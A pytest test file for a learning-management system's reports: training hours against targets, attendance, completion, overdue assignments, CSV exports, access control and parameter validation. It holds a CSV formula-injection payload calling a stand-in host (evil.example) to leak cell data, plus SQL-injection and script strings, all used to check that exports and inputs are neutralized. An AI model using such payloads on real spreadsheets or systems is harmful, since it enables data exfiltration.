"""Reports: hours against the target, attendance, completion, overdue assignments, CSV."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

import pytest

from lms.extensions import db
from lms.models import (
    Attendance,
    Camp,
    Enrollment,
    LiveSeries,
    LiveSession,
    Organization,
    Registration,
    User,
)
from lms.services import hours, people, plans, reports
from tests.test_plans import add_group, assign, login, org_id
from tests.test_query_counts import count_queries

MARCH = date(2027, 3, 1)
PERIOD = "from=2027-03-01&to=2027-03-31"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@dataclass
class World:
    org_a: int
    org_b: int
    manager_a: User
    manager_b: User
    ann: User
    al: User
    evil: User
    bob: User
    group_a: int


@pytest.fixture
def world(app, make_user) -> World:
    manager_a = make_user("boss@acme.example", organization="Acme", is_manager=True)
    ann = make_user("ann@acme.example", organization="Acme")
    al = make_user("al@acme.example", organization="Acme")
    evil = make_user("evil@acme.example", organization="Acme")
    manager_b = make_user("boss@beta.example", organization="Beta", is_manager=True)
    bob = make_user("bob@beta.example", organization="Beta")
    org_a, org_b = org_id(app, "Acme"), org_id(app, "Beta")
    with app.app_context():
        db.session.get(User, evil.id).name = EVIL
        db.session.get(Organization, org_a).monthly_target_hours = 10
        db.session.commit()
    group_a = add_group(app, org_a, "Key talent", [ann.id, al.id])
    return World(org_a, org_b, manager_a, manager_b, ann, al, evil, bob, group_a)


def ledger(app, user_id: int, day: date, hours_: float, key: str, camp_id=None) -> None:
    with app.app_context():
        hours.add(key=key, user_id=user_id, source="video", seconds=int(hours_ * 3600), day=day,
                  camp_id=camp_id)  # fmt: skip
        db.session.commit()


def camp_id(app, slug: str) -> int:
    with app.app_context():
        return db.session.scalar(db.select(Camp.id).filter_by(slug=slug))


@pytest.fixture
def month_hours(app, world):
    """March 2027: Ann 11 h (Acme's target is 10), Al 5 h after a correction, the evil name
    1 h, Bob (Beta, the academy's 12 h) 13 h; time outside March does not count."""
    growth = camp_id(app, "startup-growth")
    ledger(app, world.ann.id, date(2027, 3, 1), 8, "a1", growth)
    ledger(app, world.ann.id, date(2027, 3, 31), 3, "a2")
    ledger(app, world.ann.id, date(2027, 4, 1), 50, "a3")
    ledger(app, world.al.id, date(2027, 3, 10), 7, "l1", growth)
    ledger(app, world.al.id, date(2027, 3, 11), -2, "l2", growth)
    ledger(app, world.evil.id, date(2027, 3, 5), 1, "e1")
    ledger(app, world.bob.id, date(2027, 3, 5), 13, "b1", growth)
    ledger(app, world.bob.id, date(2027, 2, 28), 40, "b2")
    return growth


def hours_rows(app, organization_id=None, camp=None):
    with app.app_context():
        scope = people.Scope(organization_id, everyone=organization_id is None)
        found_camp = db.session.get(Camp, camp) if camp else None
        rows = reports.monthly_hours(scope, MARCH, found_camp)
        return {r.email: (r.hours, r.target, r.met) for r in rows}, reports.hours_summary(
            scope, MARCH, found_camp
        )


# -- (a) hours --------------------------------------------------------------------------


def test_hours_per_learner_against_the_target(app, world, month_hours):
    rows, summary = hours_rows(app)
    assert rows == {
        "ann@acme.example": (11.0, 10, True),
        "al@acme.example": (5.0, 10, False),
        "evil@acme.example": (1.0, 10, False),
        "boss@acme.example": (0.0, 10, False),
        "bob@beta.example": (13.0, 12, True),
        "boss@beta.example": (0.0, 12, False),
    }
    assert (summary.learners, summary.met, summary.hours) == (6, 2, 30.0)
    assert summary.buckets == {"none": 2, "under_25": 1, "under_50": 0, "under_75": 1,
                               "under_100": 0, "met": 2}  # fmt: skip


def test_hours_of_one_organization_only(app, world, month_hours):
    rows, summary = hours_rows(app, world.org_a)
    assert set(rows) == {"ann@acme.example", "al@acme.example", "evil@acme.example",
                         "boss@acme.example"}  # fmt: skip
    assert summary.learners == 4 and summary.met == 1


def test_with_a_camp_only_its_hours_count_and_its_target_applies(app, world, month_hours):
    rows, _ = hours_rows(app, camp=month_hours)
    assert rows["ann@acme.example"] == (8.0, 10, False)  # no camp target: Acme's
    assert rows["bob@beta.example"] == (13.0, 12, True)
    with app.app_context():
        db.session.get(Camp, month_hours).monthly_target_hours = 5
        db.session.commit()
    rows, summary = hours_rows(app, camp=month_hours)
    assert rows["ann@acme.example"] == (8.0, 5, True)
    assert rows["al@acme.example"] == (5.0, 5, True)
    assert rows["evil@acme.example"] == (0.0, 5, False)
    assert summary.met == 3


def test_the_hours_page_shows_the_month_and_a_chart(app, world, month_hours):
    client = login(app, world.manager_a.email)
    page = client.get("/reports/hours?month=2027-03").get_data(as_text=True)
    assert "Training hours 2027-03" in page
    assert "ann@acme.example" in page and "bob@beta.example" not in page
    assert "<svg" in page and 'class="bar met"' in page
    assert "met" in page and "not met" in page


# -- (b) attendance ---------------------------------------------------------------------


def add_sessions(app, world: World, count: int = 2, start: datetime | None = None) -> int:
    """A series with ``count`` sessions from 2 March 2027 (06:00 UTC), a week apart.

    Each: Ann registered and present, Al registered and absent, Bob registered and late,
    Evil waitlisted; a substitute from Beta present without a registration.
    """
    start = start or datetime(2027, 3, 2, 6, 0, tzinfo=UTC)
    with app.app_context():
        series = LiveSeries(title_zh="活动日", title_en="Activity day", rrule="FREQ=WEEKLY",
                            starts_local=start.replace(tzinfo=None), location="centre")  # fmt: skip
        db.session.add(series)
        db.session.flush()
        for number in range(count):
            begins = start + timedelta(days=7 * number)
            session = LiveSession(
                series_id=series.id, title_zh=f"第{number}次", title_en=f"Session {number}",
                starts_at=begins, ends_at=begins + timedelta(hours=2), location="centre",
                checkin_secret="s",
            )  # fmt: skip
            db.session.add(session)
            db.session.flush()
            registrations = [(world.ann, "registered"), (world.al, "registered"),
                             (world.bob, "registered"), (world.evil, "waitlisted")]  # fmt: skip
            for user, status in registrations:
                db.session.add(Registration(session_id=session.id, user_id=user.id, status=status))
            attendance = [(world.ann, "present"), (world.al, "absent"), (world.bob, "late"),
                          (world.manager_b, "present")]  # fmt: skip
            for user, status in attendance:
                db.session.add(Attendance(session_id=session.id, user_id=user.id, status=status))
        db.session.commit()
        return series.id


def test_attendance_per_session_and_series(app, world):
    add_sessions(app, world, count=2)
    add_sessions(app, world, count=1, start=datetime(2027, 5, 2, 6, tzinfo=UTC))  # outside
    with app.app_context():
        everyone = people.Scope(None, everyone=True)
        sessions = reports.attendance_by_session(everyone, MARCH, date(2027, 3, 31))
        series = reports.attendance_by_series(everyone, MARCH, date(2027, 3, 31))
        acme = people.Scope(world.org_a)
        acme_sessions = reports.attendance_by_session(acme, MARCH, date(2027, 3, 31))
    assert len(sessions) == 2
    first = sessions[0]
    assert (first.registered, first.present, first.late, first.absent) == (3, 2, 1, 1)
    assert first.rate == 100  # three attended (one a substitute) for three seats
    assert [(s.sessions, s.registered, s.present, s.late) for s in series] == [(2, 6, 4, 2)]
    mine = acme_sessions[0]
    assert (mine.registered, mine.present, mine.late, mine.absent, mine.rate) == (2, 1, 0, 1, 50)


def test_a_managers_attendance_leaves_out_sessions_without_their_staff(app, world, make_user):
    add_sessions(app, world, count=1)
    loner = make_user("loner@gamma.example", organization="Gamma", is_manager=True)
    client = login(app, loner.email)
    page = client.get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
    assert "No sessions in this period." in page
    organizer = make_user("organizer@example.com", role="organizer")
    page = login(app, organizer.email).get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
    assert "Session 0" in page and "<svg" in page


# -- (c) completion ---------------------------------------------------------------------


def enroll(app, user_id, course_id, completed=False, status=None):
    with app.app_context():
        db.session.add(Enrollment(
            user_id=user_id, course_id=course_id,
            status=status or ("completed" if completed else "active"),
            completed_at=datetime.now(UTC) if completed else None,
        ))  # fmt: skip
        db.session.commit()


def test_completion_per_course_and_camp(app, world, course):
    enroll(app, world.ann.id, course.id, completed=True)
    enroll(app, world.al.id, course.id)
    enroll(app, world.evil.id, course.id, status="withdrawn")
    enroll(app, world.bob.id, course.id, completed=True)
    with app.app_context():
        everyone = people.Scope(None, everyone=True)
        by_course = {r.course.id: r for r in reports.completion_by_course(everyone)}
        by_camp = {r.camp.id: r for r in reports.completion_by_camp(everyone)}
        acme = {r.course.id: r for r in reports.completion_by_course(people.Scope(world.org_a))}
        future = reports.completion_by_course(everyone, start=date(2999, 1, 1))
    assert (by_course[course.id].enrolled, by_course[course.id].completed) == (3, 2)
    assert by_course[course.id].rate == 67
    assert (by_camp[course.camp_id].enrolled, by_camp[course.camp_id].completed) == (3, 2)
    assert (acme[course.id].enrolled, acme[course.id].completed, acme[course.id].rate) == (2, 1, 50)
    assert all(r.enrolled == 0 and r.rate is None for r in future)


# -- (d) overdue ------------------------------------------------------------------------


def test_overdue_lists_late_learners_of_open_assignments(app, world, course):
    yesterday = plans.today() - timedelta(days=1)
    assign(app, world.org_a, yesterday, group_id=world.group_a, course_id=course.id)
    assign(app, world.org_a, plans.today(), user_id=world.evil.id, course_id=course.id)
    cancelled = assign(app, world.org_a, yesterday, user_id=world.evil.id, camp_id=course.camp_id)
    assign(app, world.org_b, yesterday - timedelta(days=9), user_id=world.bob.id,
           course_id=course.id)  # fmt: skip
    enroll(app, world.ann.id, course.id, completed=True)
    with app.app_context():
        from lms.models import Assignment

        db.session.get(Assignment, cancelled).cancelled_at = datetime.now(UTC)
        db.session.commit()
        everyone = people.Scope(None, everyone=True)
        rows = [(r.user.email, r.days) for r in reports.overdue(everyone)]
        acme = [r.user.email for r in reports.overdue(people.Scope(world.org_a))]
        count = reports.overdue_count(everyone)
        in_period = reports.overdue(everyone, start=yesterday, end=yesterday)
    assert rows == [("bob@beta.example", 10), ("al@acme.example", 1)]
    assert acme == ["al@acme.example"] and count == 2
    assert [r.user.email for r in in_period] == ["al@acme.example"]


# -- CSV --------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_hours_csv_is_an_excel_friendly_attachment(app, world, month_hours):
    with app.app_context():
        db.session.get(User, world.ann.id).name = '张三, "Ann"'
        db.session.commit()
    client = login(app, world.manager_a.email)
    response = client.get("/reports/hours.csv?month=2027-03")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="hours-2027-03-org{world.org_a}.csv"'
    )
    rows = read_csv(response)
    assert rows[0] == ["Organization", "Name", "E-mail", "Hours", "Target (h)", "Met"]
    by_email = {row[2]: row for row in rows[1:]}
    assert by_email["ann@acme.example"] == ["Acme", '张三, "Ann"', "ann@acme.example", "11.0",
                                            "10", "yes"]  # fmt: skip
    assert '"张三, ""Ann"""' in response.get_data(as_text=True)  # quoted, quotes doubled
    assert "bob@beta.example" not in response.get_data(as_text=True)


def test_formula_names_are_neutralized_in_every_export(app, world, month_hours, course):
    add_sessions(app, world, count=1)
    assign(app, world.org_a, plans.today() - timedelta(days=2), user_id=world.evil.id,
           course_id=course.id, note="=1+1")  # fmt: skip
    enroll(app, world.evil.id, course.id)
    with app.app_context():
        db.session.get(Organization, world.org_a).name = "@Acme"
        db.session.execute(db.update(LiveSession).values(title_en="-2+3"))
        db.session.commit()
    client = login(app, world.manager_a.email)
    exports = [
        "/reports/hours.csv?month=2027-03",
        f"/reports/attendance.csv?{PERIOD}",
        f"/reports/attendance-series.csv?{PERIOD}",
        "/reports/completion.csv",
        "/reports/completion-camps.csv",
        "/reports/overdue.csv",
    ]
    seen = set()
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        for row in read_csv(response):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
                seen.add(cell)
    assert "'" + EVIL in seen and "'@Acme" in seen and "'-2+3" in seen


@pytest.mark.parametrize(
    ("url", "filename"),
    [
        ("/reports/attendance.csv?from=2027-03-01&to=2027-03-31",
         "attendance-2027-03-01_2027-03-31-org{org}.csv"),
        ("/reports/overdue.csv?camp={camp}", "overdue-{today}-org{org}-camp{camp}.csv"),
        ("/reports/completion-camps.csv", "completion-camps-org{org}.csv"),
    ],
)  # fmt: skip
def test_csv_file_names_are_made_of_checked_values(app, world, url, filename):
    growth = camp_id(app, "startup-growth")
    values = {"org": world.org_a, "camp": growth, "today": plans.today().isoformat()}
    response = login(app, world.manager_a.email).get(url.format(**values))
    expected = filename.format(**values)
    assert response.headers["Content-Disposition"] == f'attachment; filename="{expected}"'


# -- who sees what ----------------------------------------------------------------------

PAGES = ["/reports/", "/reports/hours", "/reports/attendance", "/reports/completion",
         "/reports/overdue"]  # fmt: skip
EXPORTS = ["/reports/hours.csv", "/reports/attendance.csv", "/reports/attendance-series.csv",
           "/reports/completion.csv", "/reports/completion-camps.csv",
           "/reports/overdue.csv"]  # fmt: skip


def test_every_report_route_is_tested(app):
    routes = {r.rule for r in app.url_map.iter_rules() if r.endpoint.startswith("reports.")}
    assert routes == set(PAGES + EXPORTS)


@pytest.mark.parametrize("url", PAGES + EXPORTS)
@pytest.mark.parametrize(
    ("viewer", "status"),
    [(None, 302), ("learner", 404), ("trainer", 404), ("staff", 404), ("manager", 200),
     ("organizer", 200)],
)  # fmt: skip
def test_permission_matrix(app, world, make_user, url, viewer, status):
    make_user("learner@example.com")
    make_user("trainer@example.com", role="trainer")
    make_user("organizer@example.com", role="organizer")
    emails = {"learner": "learner@example.com", "trainer": "trainer@example.com",
              "organizer": "organizer@example.com", "manager": world.manager_a.email,
              "staff": world.ann.email}  # fmt: skip
    response = login(app, emails.get(viewer)).get(url)
    assert response.status_code == status
    if status == 302:
        assert "/login" in response.headers["Location"]


@pytest.mark.parametrize("url", PAGES + EXPORTS)
def test_another_organizations_reports_are_404_for_managers(app, world, month_hours, url):
    add_sessions(app, world, count=1)
    client = login(app, world.manager_a.email)
    for tampered in (world.org_b, 999999):
        assert client.get(f"{url}?organization={tampered}&{PERIOD}").status_code == 404
    own = client.get(f"{url}?organization={world.org_a}&{PERIOD}&month=2027-03")
    assert own.status_code == 200
    default = client.get(f"{url}?{PERIOD}&month=2027-03")
    for response in (own, default):
        body = response.get_data(as_text=True)
        assert "bob@beta.example" not in body and "boss@beta.example" not in body


@pytest.mark.parametrize("url", PAGES + EXPORTS)
def test_organizers_choose_any_organization(app, world, organizer, month_hours, url):
    client = login(app, organizer.email)
    assert client.get(f"{url}?organization={world.org_b}").status_code == 200
    assert client.get(f"{url}?organization=999999").status_code == 404
    if url.startswith("/reports/hours"):
        body = client.get(f"{url}?organization={world.org_b}&month=2027-03").get_data(as_text=True)
        assert "bob@beta.example" in body and "ann@acme.example" not in body


def test_managers_counts_include_only_their_staff(app, world, course):
    add_sessions(app, world, count=1)
    enroll(app, world.ann.id, course.id, completed=True)
    enroll(app, world.bob.id, course.id, completed=True)
    client = login(app, world.manager_a.email)
    rows = read_csv(client.get(f"/reports/attendance.csv?{PERIOD}"))
    assert rows[1][3:] == ["2", "1", "0", "0", "1", "50"]
    rows = read_csv(client.get("/reports/completion.csv"))
    assert [course.title_en, "1", "1", "100"] in [row[1:] for row in rows]


def test_the_navigation_shows_reports_to_organizers_and_managers(app, world, organizer):
    for email, shown in ((world.manager_a.email, True), (organizer.email, True),
                         (world.ann.email, False)):  # fmt: skip
        page = login(app, email).get("/dashboard").get_data(as_text=True)
        assert ('href="/reports/"' in page) is shown


# -- parameters -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("month=2027-13", "The month must be written YYYY-MM."),
        ("month=2027-3", "The month must be written YYYY-MM."),
        ("month=abc", "The month must be written YYYY-MM."),
        ("month=1999-12", "The month must be written YYYY-MM."),
        ("from=2027-02-30", "from must be a date written YYYY-MM-DD."),
        ("to=2027/03/01", "to must be a date written YYYY-MM-DD."),
        ("to=0001-01-05", "to must be a date written YYYY-MM-DD."),
        ("from=9999-12-31&to=9999-12-31", "from must be a date written YYYY-MM-DD."),
        ("from=2027-03-02&to=2027-03-01", "The period ends before it starts."),
        ("from=2020-01-01&to=2027-01-01", "The period is longer than two years."),
        ("organization=abc", "organization must be a number."),
        ("organization=-1", "organization must be a number."),
        ("organization=99999999999", "organization must be a number."),
        ("camp=1.5", "camp must be a number."),
        ("camp=999999", "There is no camp with this number."),
        ("page=0", "page must be a number from 1 to 100000."),
        ("page=x", "page must be a number."),
    ],
)
def test_bad_parameters_are_400_with_a_message(app, organizer, query, message):
    client = login(app, organizer.email)
    for url in PAGES + EXPORTS:
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400, url
        assert message in response.get_data(as_text=True), url


@pytest.mark.parametrize(
    "value",
    ["", " ", "\x00", "%00", "１２", "9" * 400, "2027-03-01T00:00", "NaN", "0x10", "2027-00",
     "0000-01-01", "0001-01-01", "9999-12-31", "2100-12-31", "2027-03-01%0d%0a", "<script>",
     "1;DROP TABLE users"],
)  # fmt: skip
def test_odd_parameters_are_never_a_500(app, organizer, world, value):
    client = login(app, organizer.email)
    for url in PAGES + EXPORTS:
        for name in ("organization", "camp", "month", "from", "to", "page"):
            response = client.get(url, query_string={name: value})
            assert response.status_code in (200, 400), (url, name, value)


# -- queries ----------------------------------------------------------------------------


def grow(app, world: World, course, start: int, count: int) -> None:
    """More of everything: staff with hours, registrations, attendance, enrollments, late
    assignments — in both organizations."""
    with app.app_context():
        session_ids = db.session.scalars(db.select(LiveSession.id)).all()
        for number in range(start, start + count):
            organization = world.org_a if number % 2 else world.org_b
            user = User(email=f"s{number}@example.com", name=f"S{number}", password_hash="x",
                        organization_id=organization)  # fmt: skip
            db.session.add(user)
            db.session.flush()
            hours.add(key=f"g{number}", user_id=user.id, source="video", seconds=3600 * number,
                      day=date(2027, 3, 1 + number % 28))  # fmt: skip
            for session_id in session_ids:
                db.session.add(Registration(session_id=session_id, user_id=user.id,
                                            status="registered"))  # fmt: skip
                db.session.add(Attendance(session_id=session_id, user_id=user.id,
                                          status="present"))  # fmt: skip
            db.session.add(Enrollment(user_id=user.id, course_id=course.id))
            from lms.models import Assignment

            db.session.add(Assignment(organization_id=organization, user_id=user.id,
                                      course_id=course.id,
                                      due_on=plans.today() - timedelta(days=3)))  # fmt: skip
        db.session.commit()


def queries(app, client, url: str) -> int:
    with count_queries(app) as statements:
        response = client.get(url)
    assert response.status_code == 200, url
    return len(statements)


@pytest.mark.parametrize("viewer", ["manager", "organizer"])
def test_reports_run_a_fixed_number_of_queries(app, world, organizer, course, viewer):
    add_sessions(app, world, count=2)
    client = login(app, world.manager_a.email if viewer == "manager" else organizer.email)
    urls = [f"{url}?{PERIOD}&month=2027-03" for url in PAGES + EXPORTS]
    grow(app, world, course, 0, 3)
    before = [queries(app, client, url) for url in urls]
    grow(app, world, course, 3, 30)
    add_sessions(app, world, count=3, start=datetime(2027, 3, 4, 6, tzinfo=UTC))
    assert [queries(app, client, url) for url in urls] == before
